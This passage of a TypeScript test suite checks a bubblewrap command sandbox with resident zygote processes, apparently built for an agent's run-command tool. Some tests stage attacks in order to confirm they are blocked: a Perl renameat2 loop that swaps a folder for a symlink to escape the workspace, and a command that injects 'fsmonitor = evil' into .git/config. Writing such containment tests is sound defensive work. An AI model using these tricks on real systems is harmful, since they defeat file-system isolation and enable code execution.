    assert.ok(await waitUntil(() => stillRunning(tree).length === 0, 3000), `left running: ${JSON.stringify(stillRunning(tree))}`);
    assert.deepEqual(running(tag), []);
  });

  describe('what the resident shares with the host, and what outlives a command', () => {
    it('a stand-in whose parent a concurrent command swapped for a link after the walk: nothing is made outside the workspace', async () => {
      // A nested repository whose hooks folder (core.hooksPath = deep/hk) is missing: the walk gives
      // it a stand-in. A command running meanwhile (in a namespace where none of this is protected)
      // swaps `deep` for a link to a folder outside the workspace between the walk and the start: a
      // loop of renameat2(RENAME_EXCHANGE) won that race on the first command tried. The stand-in's
      // folder must then be made, if at all, where the command's own mounts allow, as bubblewrap did.
      ws.write('sub/.git/config', '[core]\n\thooksPath = deep/hk\n');
      fs.mkdirSync(ws.at('sub/deep'));
      const c = await new CommandSandbox({ residents: pool }).confine('workspace-write', [ws.root], ws.root);
      assert.ok(c?.start, 'a resident takes the command');
      fs.renameSync(ws.at('sub/deep'), ws.at('sub/deep.real'));
      fs.symlinkSync(ws.outside, ws.at('sub/deep'));
      const planted = path.join(ws.outside, 'hk');
      try {
        const child = c.start(['/bin/sh', '-c', 'echo ran'], ws.root, { PATH: process.env.PATH });
        const madeAtStart = fs.existsSync(planted);
        const out: Buffer[] = [];
        child.stdout.on('data', (d: Buffer) => out.push(d));
        child.stderr.on('data', (d: Buffer) => out.push(d));
        const code = await new Promise<number | null>((resolve) => child.on('exit', (n) => resolve(n)));
        assert.equal(madeAtStart, false, `the host made ${planted}, outside the workspace, for the command's stand-in`);
        assert.equal(fs.existsSync(planted), false, `${planted} was made outside the workspace`);
        assert.notEqual(code, 0, `the command ran without its stand-in: ${Buffer.concat(out)}`);
      } finally {
        c.release();
      }
    });

    for (const residents of [true, false])
      it(`a pinned folder swapped for a link by a command running meanwhile: no command ${residents ? 'in a resident' : 'in a bubblewrap of its own'} gets the folder it points at, outside the workspace, writable (its mount table is checked first)`, async function () {
        // Found by review: a command started before `pkg/sub/.git` existed makes it, then swaps
        // `pkg` with a relative link to a folder outside (renameat2 RENAME_EXCHANGE every 3 ms). The
        // next commands' walk pins `pkg` (`--bind pkg pkg`, writable); when the link is in place as
        // bubblewrap mounts, it follows it at both ends and binds the outside folder onto itself,
        // writable. Each sandbox's mount table is now checked before anything runs in it (from the
        // host for a resident, by a shell in a bubblewrap of its own; `mount-check.ts`), and a
        // raced one is refused. Left: bubblewrap itself may make an empty mount point (`sub`) in the
        // folder the link names, before the check; no command writes there.
        const renameat2 = process.arch === 'x64' ? 316 : process.arch === 'arm64' ? 276 : undefined;
        if (!renameat2 || !fs.existsSync('/usr/bin/perl')) this.skip();
        this.timeout(90_000);
        const own = residents ? tool : createRunCommandTool({ killGraceMs: 300, lingerMs: 300, sandbox: new CommandSandbox({ residents: false }) });
        // A workspace outside /tmp (under it, the sandbox's own /tmp made the race rarer here).
        const base = fs.mkdtempSync('/var/tmp/arbor-resident-test-');
        cleanups.push(() => fs.rmSync(base, { recursive: true, force: true }));
        const root = path.join(base, 'ws');
        const dir = path.join(base, 'outside');
        fs.mkdirSync(root);
        fs.mkdirSync(dir);
        const at = (command: string) => call(own, { command, timeoutMs: 30_000 }, { ...ws.ctx(), roots: [root] });
        const swap = `perl -e 'my ($a, $b, $e) = ("pkg", "pkgl", time + 5); while (time < $e) { syscall(${renameat2}, -100, $a, -100, $b, 2); select(undef, undef, undef, 0.003) } syscall(${renameat2}, -100, $a, -100, $b, 2) if -l $a'`;
        const racing = at(`mkdir -p pkg/sub/.git && ln -s ../outside pkgl && touch racing && ${swap}; echo swapped`);
        assert.ok(await waitUntil(() => fs.existsSync(path.join(root, 'racing')), 15_000));
        let i = 0;
        let refusedRaces = 0;
        for (const end = Date.now() + 4500; Date.now() < end; i++) {
          const r = await at(`echo x > ../outside/during-${i} 2>/dev/null; true`);
          if (/swapped for a link while the sandbox was set up/.test(r.content)) refusedRaces++;
        }
        const r = await racing;
        assert.match(stdoutOf(r), /swapped/, r.content);
        assert.ok(fs.lstatSync(path.join(root, 'pkg')).isDirectory(), 'pkg is the folder again');
        for (let j = 0; j < 3; j++) {
          const after = await at(`echo x > after-${j}`);
          assert.equal(after.isError, false, `a command after the race runs: ${after.content}`);
        }
        cleanups.push(() => killAll(residentTree(root)));
        const written = fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => !e.isDirectory());
        assert.deepEqual(
          written.map((e) => e.name),
          [],
          `${i} commands ran during the race (${refusedRaces} refused as raced); these files were written outside the workspace`,
        );
      });

    it('a copy of its stdout held outside its namespace (as one handed over a Unix socket where no seccomp filter loads) does not keep the command from ending', async () => {
      const tag = marker('held');
      const pending = run(`: ${tag}; touch started; ${awaitFile('held')}; echo bye`);
      assert.ok(await waitUntil(() => fs.existsSync(ws.at('started')), 15_000));
      const [sh] = running(tag);
      assert.ok(sh, 'the command is found on the host');
      const fd = fs.openSync(`/proc/${sh.pid}/fd/1`, 'w');
      let open = true;
      const unhold = () => {
        if (open) fs.closeSync(fd);
        open = false;
      };
      cleanups.push(unhold);
      ws.write('held', '');
      const r = await Promise.race([pending, sleep(8000).then(() => undefined)]);
      unhold();
      assert.ok(r, 'the command had not ended 8 s after its shell exited (its namespace long gone)');
      assert.equal(r.isError, false, r.content);
      assert.equal(stdoutOf(r), 'bye', r.content);
    });

    it('a folder the host mounts after its resident started is read-only to the next command, as under a bubblewrap of its own', async function () {
      if (process.getuid?.() !== 0) this.skip(); // mounting on the host needs root
      const dir = fs.mkdtempSync('/var/tmp/arbor-resident-test-');
      cleanups.push(() => fs.rmSync(dir, { recursive: true, force: true }));
      try {
        // A shared mount, as systemd makes every mount of a desktop: what is mounted under it later reaches every namespace copied from it.
        execFileSync('mount', ['--bind', dir, dir]);
        cleanups.unshift(() => execFileSync('umount', ['-l', dir]));
        execFileSync('mount', ['--make-shared', dir]);
      } catch (e) {
        console.log(`      (skipped: cannot make a shared mount here: ${(e as Error).message.split('\n')[0]})`);
        this.skip();
      }
      const first = await run(`echo one > ${dir}/f 2>/dev/null || echo refused`);
      assert.equal(stdoutOf(first), 'refused', first.content);
      // The user mounts a drive (or sshfs, rclone…) while the resident lives.
      fs.mkdirSync(path.join(dir, 'drive'));
      execFileSync('mount', ['-t', 'tmpfs', 'tmpfs', path.join(dir, 'drive')]);
      cleanups.unshift(() => execFileSync('umount', ['-l', path.join(dir, 'drive')]));
      const r = await run(`echo evil > ${dir}/drive/f; echo done`);
      assert.match(stdoutOf(r), /done/, r.content);
      assert.equal(fs.existsSync(path.join(dir, 'drive', 'f')), false, `a command wrote on a mount made after its resident started: ${r.content}`);
      assert.match(r.content, /Read-only file system/);
    });
  });

  it("a program named without a folder is found on the command's own PATH, as spawn finds it (not the zygote's)", async () => {
    ws.write('bin/mytool', '#!/bin/sh\necho "mytool ran"\n');
    fs.chmodSync(ws.at('bin/mytool'), 0o755);
    const c = await new CommandSandbox({ residents: pool }).confine('workspace-write', [ws.root], ws.root);
    assert.ok(c?.start, 'a resident takes the command');
    try {
      const child = c.start(['mytool'], ws.root, { PATH: `${ws.at('bin')}:/usr/bin:/bin` });
      const out: Buffer[] = [];
      child.stdout.on('data', (d: Buffer) => out.push(d));
      child.stderr.on('data', (d: Buffer) => out.push(d));
      const code = await new Promise<number | null>((resolve) => child.on('exit', (n) => resolve(n)));
      assert.equal(Buffer.concat(out).toString(), 'mytool ran\n');
      assert.equal(code, 0);
    } finally {
      c.release();
    }
  });

  it('two sandboxes set up with different bubblewrap binaries never share a resident', async () => {
    const bwrap = execFileSync('sh', ['-c', 'command -v bwrap'], { encoding: 'utf8' }).trim();
    const other = path.join(ws.outside, 'bwrap');
    fs.copyFileSync(bwrap, other);
    fs.chmodSync(other, 0o755);
    const first = createRunCommandTool({ sandbox: new CommandSandbox({ residents: pool, bwrapPath: bwrap }) });
    const second = createRunCommandTool({ sandbox: new CommandSandbox({ residents: pool, bwrapPath: other }) });
    for (const t of [first, second]) {
      const r = await call(t, { command: 'ps -o comm= -p 1' }, ws.ctx());
      assert.equal(stdoutOf(r).trim(), 'arbor-zygote', r.content);
    }
    const bwraps = processes().filter((p) => p.ppid === process.pid && p.cmd.includes('arbor-zygote') && p.cmd.includes(ws.root));
    assert.deepEqual(bwraps.map((p) => p.cmd.split(' ')[0]).sort(), [bwrap, other].sort(), 'one resident each');
  });

  describe('many commands, a request too large, and a bubblewrap found on PATH', () => {
    it('258 commands at once in one workspace state: every one runs (past the zygote’s 256, in a bubblewrap of its own)', async () => {
      const n = 258;
      fs.mkdirSync(ws.at('started'));
      execFileSync('mkfifo', [ws.at('go')]);
      let settled = 0;
      const runs = Array.from({ length: n }, (_, i) =>
        run(`: > started/${i}; cat go; echo ran-${i}`, {}, { timeoutMs: 45_000 }).then((r) => {
          settled++;
          return r;
        }),
      );
      // All of them run at once: none can end before the FIFO's writer first closes.
      assert.ok(await waitUntil(() => fs.readdirSync(ws.at('started')).length + settled >= n, 40_000), 'every command started or ended');
      // A writer opened and closed ends every `cat` reading the FIFO now; again for one not reading it yet.
      for (const end = Date.now() + 15_000; settled < n && Date.now() < end; await sleep(100)) {
        try {
          fs.closeSync(fs.openSync(ws.at('go'), fs.constants.O_WRONLY | fs.constants.O_NONBLOCK));
        } catch {
          // no reader at this moment
        }
      }
      const results = await Promise.all(runs);
      const failed = results.map((r, i) => [i, r] as const).filter(([i, r]) => r.isError || stdoutOf(r) !== `ran-${i}`);
      assert.deepEqual(
        failed.map(([i, r]) => `${i}: ${r.content.slice(0, 200)}`),
        [],
      );
    });

    it('a request past what the zygote takes (65,537 variables) is refused on the host: the commands running beside it go on', async () => {
      const status = await sandboxStatus();
      assert.ok(status.available);
      const args = bwrapArgs({
        mode: 'workspace-write',
        roots: [ws.root],
        readOnly: [],
        shadow: [],
        network: false,
        cwd: ws.root,
        resident: true,
        seccompFd: status.filter ? 3 : undefined,
      });
      const lease = await pool.lease({
        bwrap: status.bwrap,
        args,
        fd3: status.filter,
        zygoteArgs: ['--proc', RESIDENT_PROC, '--net-ns', ...(ws.root.startsWith('/tmp/') ? ['--keep', ws.root] : [])],
      });
      assert.ok(lease);
      cleanups.push(() => lease.release());
      const env = { PATH: process.env.PATH };
      const beside = lease.resident.run(['/bin/sh', '-c', `touch started; ${awaitFile('go')}; echo beside`], ws.root, env, []);
      let out = '';
      beside.stdout.on('data', (d: Buffer) => {
        out += d;
      });
      const ended = new Promise<[number | null, string | null]>((resolve) => beside.on('exit', (code, sig) => resolve([code, sig])));
      assert.ok(await waitUntil(() => fs.existsSync(ws.at('started')), 15_000));
      const many: NodeJS.ProcessEnv = { ...env };
      for (let i = 0; i < 65_537; i++) many[`V${i}`] = '1';
      let refused: unknown;
      try {
        const big = lease.resident.run(['/bin/sh', '-c', 'true'], ws.root, many, []);
        big.on('error', () => undefined);
      } catch (e) {
        refused = e;
      }
      await sleep(300);
      ws.write('go', '');
      assert.deepEqual(await ended, [0, null], `the command beside it was lost: ${beside.lostReason}`);
      assert.equal(out, 'beside\n');
      assert.match(String(refused), /too large/);
    });

    it('a bubblewrap named without a folder and found on PATH outside /usr/bin and /bin (/usr/local/bin, a Nix profile) runs residents too', async () => {
      const dir = fs.mkdtempSync('/var/tmp/arbor-resident-test-');
      cleanups.push(() => fs.rmSync(dir, { recursive: true, force: true }));
      const bwrap = execFileSync('sh', ['-c', 'command -v bwrap'], { encoding: 'utf8' }).trim();
      const name = `bwrap-${path.basename(dir)}`;
      fs.symlinkSync(bwrap, path.join(dir, name));
      const PATH = process.env.PATH;
      process.env.PATH = `${dir}:${PATH}`;
      cleanups.push(() => {
        process.env.PATH = PATH;
      });
      const sandbox = new CommandSandbox({ bwrapPath: name, residents: pool });
      assert.equal((await sandbox.status()).available, true);
      const c = await sandbox.confine('workspace-write', [ws.root], ws.root);
      c?.release();
      assert.equal(pool.unavailable, undefined, 'the pool gave up residents');
      assert.ok(c?.start, 'a resident takes the command');
    });
  });

  it('a zygote whose own path is under /tmp (a clone there, the sandbox has a /tmp of its own) still runs residents', async () => {
    const binDir = fs.mkdtempSync('/tmp/arbor-zygote-bin-');
    try {
      const copy = path.join(binDir, 'arbor-zygote');
      fs.copyFileSync(zygotePath() as string, copy);
      fs.chmodSync(copy, 0o755);
      const pool = new ResidentPool({ zygote: copy });
      try {
        const r = await call(createRunCommandTool({ sandbox: new CommandSandbox({ residents: pool }) }), { command: 'ps -o pid=,comm= -p 1' }, ws.ctx());
        assert.equal(r.isError, false, r.content);
        assert.match(r.content, /^\s*1 arbor-zygote$/m, 'the zygote under /tmp ran as the resident');
        assert.equal(pool.unavailable, undefined);
      } finally {
        pool.closeAll();
      }
    } finally {
      fs.rmSync(binDir, { recursive: true, force: true });
    }
  });

  describe('fallback where no resident can run', () => {
    let dir: string;
    beforeEach(() => {
      dir = fs.mkdtempSync('/var/tmp/arbor-resident-test-');
    });
    afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

    const confinedAlone = async (sandboxed: Tool) => {
      ws.write('.git/config', '[core]\n');
      for (let i = 0; i < 2; i++) {
        const r = await call(
          sandboxed,
          { command: 'ps -o comm= -p 1; echo "[core] fsmonitor = evil" >> .git/config; echo ok > free.txt; echo done' },
          ws.ctx(),
        );
        assert.match(r.content, /--- stdout ---\nbwrap\ndone/, 'a bubblewrap of its own');
        assert.match(r.content, /Read-only file system/);
        assert.equal(ws.read('.git/config'), '[core]\n');
        assert.equal(ws.read('free.txt'), 'ok\n');
      }
    };

    it('a zygote that cannot work (/bin/false): commands still run confined, in a bubblewrap each; after three failed starts the pool says why and stops trying', async () => {
      const broken = new ResidentPool({ zygote: '/bin/false' });
      const tool = createRunCommandTool({ sandbox: new CommandSandbox({ residents: broken }) });
      // One failed start may pass (a resident killed before its hello, a fork refused for a moment): two commands, two tries.
      await confinedAlone(tool);
      assert.equal(broken.unavailable, undefined, 'given up after two failed starts');
      await confinedAlone(tool);
      assert.match(broken.unavailable ?? '', /exit code 1/);
      await confinedAlone(tool);
      broken.closeAll();
    });

    it("a zygote whose hello says it cannot make namespaces: the pool keeps its words and the zygote's sandbox is killed", async () => {
      const fake = path.join(dir, 'fake-zygote');
      fs.writeFileSync(fake, "#!/bin/sh\nprintf 'H\\0\\0\\0\\0\\22\\0\\0\\0no namespaces here'\nexec sleep 30.41\n", { mode: 0o755 });
      const broken = new ResidentPool({ zygote: fake });
      await confinedAlone(createRunCommandTool({ sandbox: new CommandSandbox({ residents: broken }) }));
      assert.equal(broken.unavailable, 'no namespaces here');
      assert.ok(await waitUntil(() => running('sleep 30.41').length === 0, 3000), 'the failed resident is gone');
      broken.closeAll();
    });
  });

  it('idle: a pool with idleMs 200 closes its resident (nothing of it left), and the next command starts a new one', async () => {
    pool = new ResidentPool({ zygote, idleMs: 200 });
    tool = createRunCommandTool({ killGraceMs: 300, lingerMs: 300, sandbox: new CommandSandbox({ residents: pool }) });
    const first = await run('ps -o comm= -p 1');
    assert.equal(stdoutOf(first).trim(), 'arbor-zygote', first.content);
    const tree = residentTree(ws.root);
    assert.ok(tree.length > 0, 'the resident is there just after the command');
    assert.ok(await waitUntil(() => residentTree(ws.root).length === 0, 4000), `left: ${JSON.stringify(residentTree(ws.root))}`);
    assert.deepEqual(stillRunning(tree), []);
    const next = await run('ps -o comm= -p 1');
    assert.equal(stdoutOf(next).trim(), 'arbor-zygote', next.content);
    assert.ok(await waitUntil(() => residentTree(ws.root).length === 0, 4000), 'the second resident idles out too');
  });

  it('past max residents, the one used longest ago is closed first, not the first one started', async () => {
    pool = new ResidentPool({ zygote, max: 2 });
    tool = createRunCommandTool({ killGraceMs: 300, lingerMs: 300, sandbox: new CommandSandbox({ residents: pool }) });
    const others = [makeWorkspace(), makeWorkspace()];
    cleanups.push(() => {
      for (const o of others) {
        killAll(residentTree(o.root));
        o.cleanup();
      }
    });
    const [b, c] = others;
    const inWs = async (w: Workspace) => {
      const r = await call(tool, { command: 'ps -o comm= -p 1' }, w.ctx());
      assert.equal(stdoutOf(r).trim(), 'arbor-zygote', r.content);
    };
    await inWs(ws); // started first
    await inWs(b);
    await inWs(ws); // and used again: b is now the one used longest ago
    await inWs(c);
    assert.ok(await waitUntil(() => residentsOf(b.root).length === 0, 4000), 'b, idle the longest, was closed');
    assert.equal(residentsOf(ws.root).length, 1, 'the first started, used since, stays');
    assert.equal(residentsOf(c.root).length, 1);
  });

  describe('the wire (zygote-wire.ts)', () => {
    const u32 = (n: number) => {
      const b = Buffer.alloc(4);
      b.writeUInt32LE(n, 0);
      return b;
    };
    const text = (type: string, id: number, s: string | Buffer) => {
      const body = Buffer.isBuffer(s) ? s : Buffer.from(s, 'utf8');
      return Buffer.concat([Buffer.from(type, 'latin1'), u32(id), u32(body.length), body]);
    };
    const output = (id: number, stream: 1 | 2, data: Buffer) => Buffer.concat([Buffer.from('O'), u32(id), Buffer.from([stream]), u32(data.length), data]);
    const ended = (id: number, kind: 0 | 1, value: number) => Buffer.concat([Buffer.from('X'), u32(id), u32(kind), u32(value)]);
    const started = (id: number, pid: number) => Buffer.concat([Buffer.from('S'), u32(id), u32(pid)]);

    // Output bytes that look like frames, a zero-length output, multi-byte UTF-8 and a large id.
    const tricky = Buffer.concat([ended(1, 0, 0), Buffer.from([0, 0xff, 0x4f]), Buffer.from('H\0\0\0')]);
    const stream = Buffer.concat([
      text('H', 0, ''),
      started(1, 2),
      output(1, 1, tricky),
      output(1, 2, Buffer.alloc(0)),
      output(0xfffffffe, 2, Buffer.from('héllo ✓\n')),
      text('E', 7, 'clone: Resource temporarily unavailable'),
      ended(1, 0, 3),
      ended(0xfffffffe, 1, 9),
      text('H', 0, 'new namespaces could not be made'),
    ]);
    const expected: ZygoteFrame[] = [
      { type: 'hello', error: '' },
      { type: 'started', id: 1 },
      { type: 'output', id: 1, stream: 1, data: tricky },
      { type: 'output', id: 1, stream: 2, data: Buffer.alloc(0) },
      { type: 'output', id: 0xfffffffe, stream: 2, data: Buffer.from('héllo ✓\n') },
      { type: 'failed', id: 7, message: 'clone: Resource temporarily unavailable' },
      { type: 'ended', id: 1, code: 3, signal: null },
      { type: 'ended', id: 0xfffffffe, code: null, signal: 9 },
      { type: 'hello', error: 'new namespaces could not be made' },
    ];
    /** Frames with Buffers turned into arrays, so deepEqual compares the bytes. */
    const plain = (frames: ZygoteFrame[]) => frames.map((f) => (f.type === 'output' ? { ...f, data: [...f.data] } : f));

    it('yields the same frames however the stream is split: whole, at every byte boundary, in two at every offset, a byte at a time', () => {
      assert.deepEqual(plain(new FrameDecoder().push(stream)), plain(expected));
      for (let at = 0; at <= stream.length; at++) {
        const d = new FrameDecoder();
        const got = [...d.push(stream.subarray(0, at)), ...d.push(stream.subarray(at))];
        assert.deepEqual(plain(got), plain(expected), `split at ${at}`);
      }
      for (let a = 0; a <= stream.length; a += 3) {
        for (let b = a; b <= stream.length; b += 5) {
          const d = new FrameDecoder();
          const got = [...d.push(stream.subarray(0, a)), ...d.push(stream.subarray(a, b)), ...d.push(stream.subarray(b))];
          assert.deepEqual(plain(got), plain(expected), `split at ${a} and ${b}`);
        }
      }
      const d = new FrameDecoder();
      const got: ZygoteFrame[] = [];
      for (let i = 0; i < stream.length; i++) got.push(...d.push(stream.subarray(i, i + 1)));
      assert.deepEqual(plain(got), plain(expected), 'a byte at a time');
    });

    it("an output frame's data stays intact after the decoder goes on (it is a copy, not a view of a reused chunk)", () => {
      const chunk = Buffer.from(Buffer.concat([output(1, 1, Buffer.from('keep me')), started(2, 3)]));
      const [o] = new FrameDecoder().push(chunk);
      chunk.fill(0);
      assert.equal(o.type === 'output' && o.data.toString(), 'keep me');
    });

    it('an unknown frame type throws, first or after whole frames, whole or split', () => {
      assert.throws(() => new FrameDecoder().push(Buffer.from('Z\0\0\0\0')), /unknown type 90/);
      assert.throws(() => new FrameDecoder().push(Buffer.concat([started(1, 2), Buffer.from([0])])), /unknown type 0/);
      const d = new FrameDecoder();
      assert.deepEqual(d.push(started(1, 2).subarray(0, 5)), []);
      assert.throws(() => d.push(Buffer.concat([started(1, 2).subarray(5), Buffer.from('R')])), /unknown type 82/);
    });
  });
});
